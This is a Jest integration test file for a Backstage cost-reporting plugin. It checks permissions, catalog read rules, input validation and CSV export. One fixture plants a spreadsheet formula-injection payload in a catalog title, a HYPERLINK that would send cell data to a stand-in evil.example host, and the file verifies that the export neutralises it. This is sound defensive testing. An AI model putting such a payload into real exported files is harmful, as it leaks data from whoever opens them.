import type { AddressInfo } from 'node:net';
import {
  createBackendModule,
  createServiceFactory,
  type BackstageCredentials,
} from '@backstage/backend-plugin-api';
import { type Entity, stringifyEntityRef } from '@backstage/catalog-model';
import {
  catalogServiceRef,
  type CatalogService,
} from '@backstage/plugin-catalog-node';
import {
  mockCredentials,
  mockServices,
  startTestBackend,
} from '@backstage/backend-test-utils';
import { catalogServiceMock } from '@backstage/plugin-catalog-node/testUtils';
import {
  AuthorizeResult,
  type AuthorizePermissionRequest,
} from '@backstage/plugin-permission-common';
import { costSourcesExtensionPoint } from '@paved/plugin-cost-node';
import { costPlugin } from './plugin';
import { fixture, organisation } from './testing/organisation';

jest.setTimeout(60_000);

const ADMIN = 'user:default/admin';
const CHECKOUT_OWNER = 'user:default/alice';
/** May read any cost, but the catalog hides `orders` from her. */
const AUDITOR = 'user:default/bob';
const HIDDEN_FROM_AUDITOR = 'component:default/orders';

/** The scorecards backend, calling with its own service credentials. */
const SCORECARDS = 'plugin:scorecards';

/**
 * Components without cost rows (no rows match their default selector,
 * app=<name>): with a budget annotation, with none, and with one that is
 * not an amount.
 */
const component = (
  name: string,
  annotations: Record<string, string> = {},
): Entity => ({
  apiVersion: 'backstage.io/v1alpha1',
  kind: 'Component',
  metadata: { name, namespace: 'default', annotations },
  spec: { type: 'service', owner: 'payments-team', lifecycle: 'production' },
});
const withoutCost = [
  component('ledger', { 'paved.dev/cost-budget': '300' }),
  // stringifyEntityRef writes it in lower case.
  component('Billing-API', { 'paved.dev/cost-budget': '250.50' }),
  component('wiki'),
  component('broken-budget', { 'paved.dev/cost-budget': '12k' }),
];

/** A title a spreadsheet would run as a formula. */
const EVIL_TITLE = '=HYPERLINK("https://evil.example/?"&A1,"Orders")';

const userOf = (options?: { credentials?: BackstageCredentials }) =>
  (options?.credentials?.principal as { userEntityRef?: string } | undefined)
    ?.userEntityRef;

/**
 * The catalog with a read rule: the auditor cannot see `orders`. Every
 * read method filters what it returns by the credentials it is given, as
 * the real catalog's permission policy does.
 */
function catalogWithReadRules(): CatalogService {
  const catalog = catalogServiceMock({
    entities: [
      ...organisation.map(e =>
        e.metadata.name === 'orders'
          ? {
              ...e,
              metadata: {
                ...e.metadata,
                title: EVIL_TITLE,
                annotations: {
                  'prometheus.io/request-rate-query':
                    'sum(rate(node_cpu_seconds_total[5m]))',
                },
              },
            }
          : e,
      ),
      ...withoutCost,
    ],
  });
  const visible = (
    entity: Entity | undefined,
    options?: { credentials?: BackstageCredentials },
  ) =>
    !entity ||
    !entity.kind ||
    userOf(options) !== AUDITOR ||
    stringifyEntityRef(entity) !== HIDDEN_FROM_AUDITOR;
  return new Proxy(catalog, {
    get(target, name, receiver) {
      const method = Reflect.get(target, name, receiver);
      if (typeof method !== 'function') return method;
      return async (
        request: unknown,
        options?: { credentials?: BackstageCredentials },
      ) => {
        const result = await method.call(target, request, options);
        if (name === 'getEntityByRef') {
          return visible(result, options) ? result : undefined;
        }
        if (result && Array.isArray(result.items)) {
          return {
            ...result,
            items: result.items.filter(
              (e: Entity | undefined) => e && visible(e, options),
            ),
          };
        }
        return result;
      };
    },
  });
}

/**
 * A policy like Paved's: admins and the auditor read everything; alice
 * (checkout-team) reads the checkout component only. Service principals
 * are allowed, as Backstage's permission client allows them.
 */
const permissions = mockServices.permissions.mock({
  authorize: async (
    requests: AuthorizePermissionRequest[],
    options?: { credentials: BackstageCredentials },
  ) => {
    const principal = options?.credentials.principal as
      | { type?: string; userEntityRef?: string }
      | undefined;
    const user = principal?.userEntityRef;
    return requests.map(r => ({
      result:
        principal?.type === 'service' ||
        user === ADMIN ||
        user === AUDITOR ||
        (user === CHECKOUT_OWNER &&
          'resourceRef' in r &&
          r.resourceRef === 'component:default/checkout')
          ? AuthorizeResult.ALLOW
          : AuthorizeResult.DENY,
    }));
  },
  // The mock's type wants both overloads of authorize; this fake serves both.
} as any);

/** A cost source module that delivers the fixture through the sink. */
const fixtureSource = createBackendModule({
  pluginId: 'cost',
  moduleId: 'fixture-source',
  register(env) {
    env.registerInit({
      deps: { sources: costSourcesExtensionPoint },
      async init({ sources }) {
        sources.addSource({
          id: 'fixture',
          async connect(sink) {
            await sink.replace({
              source: 'opencost:prod',
              records: fixture,
              final: true,
              description: 'fixture',
            });
          },
        });
      },
    });
  },
});

describe('cost API', () => {
  let call: (
    path: string,
    user?: string | null,
  ) => Promise<{
    status: number;
    body: any;
    text: string;
    type: string | null;
  }>;
  let stop: () => Promise<void>;

  beforeAll(async () => {
    const backend = await startTestBackend({
      features: [
        costPlugin,
        fixtureSource,
        createServiceFactory({
          service: catalogServiceRef,
          deps: {},
          factory: catalogWithReadRules,
        }),
        permissions.factory,
        mockServices.httpAuth.factory({
          defaultCredentials: mockCredentials.none(),
        }),
        mockServices.rootConfig.factory({
          data: {
            cost: {
              currency: 'EUR',
              budgets: { 'component:default/checkout': 1200 },
              // Nothing listens there: only refused queries are answered.
              prometheus: { baseUrl: 'http://127.0.0.1:9' },
            },
          },
        }),
      ],
    });
    stop = () => backend.stop();
    const { port } = backend.server.address() as AddressInfo;
    call = async (path, user = ADMIN) => {
      let headers = {};
      if (user === SCORECARDS) {
        // A service token of the mock auth service, as a backend sends.
        headers = { authorization: mockCredentials.service.header() };
      } else if (user) {
        headers = { authorization: mockCredentials.user.header(user) };
      }
      const res = await fetch(`http://localhost:${port}/api/cost${path}`, {
        headers,
      });
      const text = await res.text();
      let body;
      try {
        body = JSON.parse(text);
      } catch {
        body = undefined;
      }
      return {
        status: res.status,
        body,
        text,
        type: res.headers.get('content-type'),
      };
    };
  });

  afterAll(() => stop());

  const window = 'from=2026-10-01&to=2026-10-02';

  it('serves an entity cost with direct and distributed parts', async () => {
    const res = await call(
      `/entity?entityRef=component:default/checkout&${window}`,
      CHECKOUT_OWNER,
    );
    expect(res.status).toBe(200);
    expect(res.body).toMatchObject({
      entityRef: 'component:default/checkout',
      currency: 'EUR',
      granularity: 'day',
      total: 52,
      direct: 40,
      distributed: 12,
      byCategory: { compute: 20, memory: 20, idle: 8, shared: 4 },
      series: [{ period: '2026-10-01', total: 52 }],
      costPerRequest: [],
      averageCostPerRequest: null,
      attributedShare: 1,
      anomalies: [],
    });
  });

  it('aggregates by month', async () => {
    const res = await call(
      '/entity?entityRef=component:default/checkout&from=2026-09-15&to=2026-11-01&granularity=month',
    );
    expect(res.body.series).toEqual([
      expect.objectContaining({ period: '2026-10', total: 52 }),
    ]);
  });

  it('answers the windows before a window in the same read, each as its own read answers it', async () => {
    const scope = 'entityRef=component:default/checkout';
    const res = await call(
      `/entity?${scope}&from=2026-10-02&to=2026-10-03&previousWindows=2`,
      CHECKOUT_OWNER,
    );
    expect(res.status).toBe(200);
    const { previous, ...current } = res.body;
    expect(current).toEqual(
      (
        await call(
          `/entity?${scope}&from=2026-10-02&to=2026-10-03`,
          CHECKOUT_OWNER,
        )
      ).body,
    );
    expect(previous).toEqual([
      (await call(`/entity?${scope}&${window}`, CHECKOUT_OWNER)).body,
      (
        await call(
          `/entity?${scope}&from=2026-09-30&to=2026-10-01`,
          CHECKOUT_OWNER,
        )
      ).body,
    ]);
    expect(previous.map((p: { total: number }) => p.total)).toEqual([52, 0]);
    // Without previousWindows the answer has none.
    expect(current).not.toHaveProperty('previous');
  });

  it('serves the organisation, with its attributed share, to admins only', async () => {
    const res = await call(`/entity?${window}`);
    expect(res.status).toBe(200);
    expect(res.body.total).toBe(119);
    expect(res.body.attributedShare).toBeCloseTo(104 / 119, 6);
    expect((await call(`/entity?${window}`, CHECKOUT_OWNER)).status).toBe(403);
  });

  it('ranks the components of a team', async () => {
    const res = await call(
      `/rankings?entityRef=group:default/checkout-team&${window}`,
    );
    expect(res.status).toBe(200);
    expect(res.body.byCost.map((r: any) => [r.entityRef, r.total])).toEqual([
      ['component:default/checkout', 52],
      ['component:default/orders', 13],
    ]);
    expect(res.body.byChange[0]).toMatchObject({
      entityRef: 'component:default/checkout',
      previousTotal: 0,
      change: 52,
      changePercent: null,
    });
  });

  it("gives every team's cost at once, each what /entity answers for it, to those who may read it", async () => {
    for (const user of [ADMIN, AUDITOR]) {
      const res = await call(`/groups?${window}`, user);
      expect(res.status).toBe(200);
      expect(res.body).toMatchObject({
        type: 'team',
        currency: 'EUR',
        from: '2026-10-01',
        to: '2026-10-02',
        truncated: false,
      });
      expect(res.body.groups.map((g: any) => g.entityRef)).toEqual([
        'group:default/checkout-team',
        'group:default/engineering',
        'group:default/payments-team',
      ]);
      for (const group of res.body.groups) {
        const one = await call(
          `/entity?entityRef=${group.entityRef}&${window}`,
          user,
        );
        expect(group.total).toBeCloseTo(one.body.total, 6);
        expect(group.byCategory).toEqual(one.body.byCategory);
      }
      // The auditor's catalog hides orders: her team total leaves it out.
      expect(res.body.groups[0].total).toBe(user === ADMIN ? 65 : 52);
    }
    // The day before in the same read: each group's what its own read of
    // that day answers.
    const compared = await call(
      '/groups?from=2026-10-02&to=2026-10-03&previousWindows=1',
      ADMIN,
    );
    const ownDay = await call(`/groups?${window}`, ADMIN);
    expect(compared.body.groups.map((g: any) => g.previous[0].total)).toEqual(
      ownDay.body.groups.map((g: any) => g.total),
    );
    expect(compared.body.groups[0].previous[0].total).toBe(65);
    // Alice may read her component's cost, not a team's: listed, refused.
    const refused = await call(`/groups?${window}`, CHECKOUT_OWNER);
    expect(refused.status).toBe(200);
    expect(refused.body.groups[0]).toEqual({
      entityRef: 'group:default/checkout-team',
      refused: 'You may not read the cost of group:default/checkout-team',
    });
    expect((await call(`/groups?${window}&type=x%0Ay`)).status).toBe(400);
    expect(
      (await call(`/groups?${window}&type=department`)).body.groups,
    ).toEqual([]);
  });

  it("gives every component's cost and budget at once, each total what /entity answers for it", async () => {
    const res = await call(`/components?${window}`, SCORECARDS);
    expect(res.status).toBe(200);
    expect(res.body).toEqual({
      from: '2026-10-01',
      to: '2026-10-02',
      currency: 'EUR',
      components: [
        // Only a budget annotation: listed with no cost.
        {
          entityRef: 'component:default/billing-api',
          total: 0,
          budget: { monthly: 250.5, source: 'annotation' },
        },
        // Cost rows, and a budget from config.
        {
          entityRef: 'component:default/checkout',
          total: 52,
          budget: { monthly: 1200, source: 'config' },
        },
        {
          entityRef: 'component:default/ledger',
          total: 0,
          budget: { monthly: 300, source: 'annotation' },
        },
        { entityRef: 'component:default/orders', total: 13 },
        { entityRef: 'component:default/payments', total: 32.5 },
        { entityRef: 'component:default/payments-canary', total: 6.5 },
        // Left out: alpha and zeta (no cost rows match their selector),
        // wiki (nothing) and broken-budget (an annotation that is not an
        // amount is no budget).
      ],
    });
    for (const { entityRef, total } of res.body.components) {
      const one = await call(`/entity?entityRef=${entityRef}&${window}`);
      expect(total).toBe(one.body.total);
    }
    // The same for a user allowed organisation-wide cost.
    expect((await call(`/components?${window}`)).body).toEqual(res.body);
  });

  it("lists only the components the caller's catalog read rules let it see", async () => {
    const res = await call(`/components?${window}`, AUDITOR);
    expect(res.status).toBe(200);
    expect(
      res.body.components.map((c: { entityRef: string }) => c.entityRef),
    ).toEqual([
      'component:default/billing-api',
      'component:default/checkout',
      'component:default/ledger',
      'component:default/payments',
      'component:default/payments-canary',
    ]);
  });

  it('refuses the component list to a user without organisation-wide cost', async () => {
    const res = await call(`/components?${window}`, CHECKOUT_OWNER);
    expect(res.status).toBe(403);
    expect(res.body.error.message).toBe(
      'You may not read organisation-wide cost',
    );
  });

  it('lists unattributed rows with their labels for admins', async () => {
    const res = await call(`/unattributed?${window}`);
    expect(res.body).toMatchObject({
      unattributed: 15,
      rows: [{ labels: { app: 'mystery', team: 'ghosts' }, cost: 15 }],
    });
    expect((await call(`/unattributed?${window}`, CHECKOUT_OWNER)).status).toBe(
      403,
    );
  });

  it('exports one CSV line per day and category', async () => {
    const res = await call(
      `/export.csv?entityRef=component:default/checkout&${window}`,
    );
    expect(res.status).toBe(200);
    expect(res.type).toMatch(/^text\/csv/);
    expect(res.text.trim().split('\n')).toEqual([
      'day,entityRef,title,category,cost,currency',
      '2026-10-01,component:default/checkout,,compute,20,EUR',
      '2026-10-01,component:default/checkout,,memory,20,EUR',
      '2026-10-01,component:default/checkout,,shared,4,EUR',
      '2026-10-01,component:default/checkout,,idle,8,EUR',
    ]);
  });

  it('exports a title from the catalog so that no spreadsheet runs it', async () => {
    const res = await call(
      `/export.csv?entityRef=component:default/orders&${window}`,
    );
    expect(res.status).toBe(200);
    const lines = res.text.trim().split('\n');
    expect(lines[1]).toBe(
      `2026-10-01,component:default/orders,"'=HYPERLINK(""https://evil.example/?""&A1,""Orders"")",compute,5,EUR`,
    );
    for (const line of lines) {
      for (const cell of line.split(',')) {
        expect(cell.replace(/^"/, '')).not.toMatch(/^[=+\-@\t\r]/);
      }
    }
  });

  it('lists the sources to anyone signed in', async () => {
    const res = await call('/sources', 'user:default/nobody');
    expect(res.body).toEqual([
      {
        source: 'opencost:prod',
        lastDay: '2026-10-01',
        lastImportAt: expect.any(String),
        rows: 7,
      },
    ]);
  });

  it('requires credentials on every route', async () => {
    for (const path of [
      `/entity?entityRef=component:default/checkout&${window}`,
      `/rankings?entityRef=group:default/checkout-team`,
      '/unattributed',
      '/components',
      '/export.csv',
      '/sources',
    ]) {
      expect((await call(path, null)).status).toBe(401);
    }
  });

  it('refuses entities the caller may not read', async () => {
    const res = await call(
      `/entity?entityRef=component:default/orders&${window}`,
      CHECKOUT_OWNER,
    );
    expect(res.status).toBe(403);
    expect(res.body.error.message).toContain('component:default/orders');
    expect(
      (
        await call(
          `/export.csv?entityRef=component:default/orders`,
          CHECKOUT_OWNER,
        )
      ).status,
    ).toBe(403);
  });

  it.each([
    ['/entity?from=2026-13-01', 'from'],
    ['/entity?to=yesterday', 'to'],
    ['/entity?from=2026-10-05&to=2026-10-01', 'from must be before to'],
    ['/entity?granularity=week', 'granularity'],
    ['/entity?previousWindows=3', 'previousWindows'],
    ['/entity?previousWindows=one', 'previousWindows'],
    ['/entity?from=0001-01-02&to=0001-01-03&previousWindows=2', 'before 0001'],
    ['/entity?entityRef=not a ref', 'entityRef'],
    ['/entity?entityRef=', 'entityRef'],
    ['/rankings', 'entityRef'],
    ['/rankings?entityRef=component:default/checkout', 'group or a system'],
    ['/components?from=2026-13-01', 'from'],
    ['/components?from=2026-10-05&to=2026-10-01', 'from must be before to'],
  ])('answers %s with 400 naming %s', async (path, name) => {
    const res = await call(path);
    expect(res.status).toBe(400);
    expect(res.body.error.message).toContain(name);
  });

  it.each([
    ['/entity?from=2024-01-01&to=2026-01-03', 'at most 731 days apart'],
    ['/entity?from=0001-01-01&to=9999-12-31', 'at most 731 days apart'],
    [
      '/rankings?entityRef=group:default/checkout-team&to=2029-01-02&from=2026-01-01',
      'at most 731 days',
    ],
    ['/unattributed?from=2020-01-01&to=2026-01-01', 'at most 731 days'],
    ['/components?from=2020-01-01&to=2026-01-01', 'at most 731 days'],
    ['/export.csv?from=2020-01-01&to=2026-01-01', 'at most 731 days'],
    ['/entity?from=2026-10-01T00:00:00', 'from must be a YYYY-MM-DD day'],
    ['/entity?to=2026-10-02T12:00:00Z', 'to must be a YYYY-MM-DD day'],
    ['/entity?from=1e9', 'from must be a YYYY-MM-DD day'],
  ])('answers the window %s with 400 (%s) at once', async (path, message) => {
    const started = performance.now();
    const res = await call(path);
    expect(res.status).toBe(400);
    expect(res.body.error.message).toContain(message);
    // Refused before any read: no allocation per day of the window.
    expect(performance.now() - started).toBeLessThan(250);
  });

  it('accepts timestamps with an offset that fall on a UTC midnight', async () => {
    const res = await call(
      `/entity?entityRef=component:default/checkout&from=${encodeURIComponent(
        '2026-10-01T02:00:00+02:00',
      )}&to=2026-10-02T00:00:00Z`,
    );
    expect(res.status).toBe(200);
    expect(res.body).toMatchObject({
      from: '2026-10-01',
      to: '2026-10-02',
      total: 52,
    });
  });

  it("resolves scopes with the caller's credentials, so the catalog's read rules apply", async () => {
    // The auditor may read any cost, but cannot see `orders` in the catalog.
    const hidden = await call(
      `/entity?entityRef=component:default/orders&${window}`,
      AUDITOR,
    );
    expect(hidden.status).toBe(404);
    expect(
      (await call(`/export.csv?entityRef=component:default/orders`, AUDITOR))
        .status,
    ).toBe(404);
    // The team sums only the members she can see: checkout (52), not
    // orders (13).
    const team = await call(
      `/entity?entityRef=group:default/checkout-team&${window}`,
      AUDITOR,
    );
    expect(team.body.total).toBe(52);
    const rankings = await call(
      `/rankings?entityRef=group:default/checkout-team&${window}`,
      AUDITOR,
    );
    expect(
      rankings.body.byCost.map((r: { entityRef: string }) => r.entityRef),
    ).toEqual(['component:default/checkout']);
    // An admin, who sees everything, gets both.
    expect(
      (await call(`/entity?entityRef=group:default/checkout-team&${window}`))
        .body.total,
    ).toBe(65);
  });

  it('refuses a request-rate query over a metric that is not allowed, and says why', async () => {
    const res = await call(
      `/entity?entityRef=component:default/orders&${window}`,
    );
    expect(res.status).toBe(200);
    expect(res.body).toMatchObject({
      total: 13,
      costPerRequest: [],
      averageCostPerRequest: null,
      costPerRequestProblem: expect.stringContaining(
        'it reads node_cpu_seconds_total, which is not an allowed request metric',
      ),
    });
  });

  it('serves its OpenAPI document, which describes every route under /api/cost', async () => {
    const res = await call('/openapi.json');
    expect(res.status).toBe(200);
    expect(Object.keys(res.body.paths).sort()).toEqual(
      [
        '/components',
        '/entity',
        '/export.csv',
        // Served by the FOCUS module under the cost plugin's path.
        '/focus/imports',
        '/groups',
        '/rankings',
        '/sources',
        '/unattributed',
      ].map(path => `/api/cost${path}`),
    );
  });

  it('answers an unknown entity with 404', async () => {
    const res = await call('/entity?entityRef=component:default/nope');
    expect(res.status).toBe(404);
  });
});
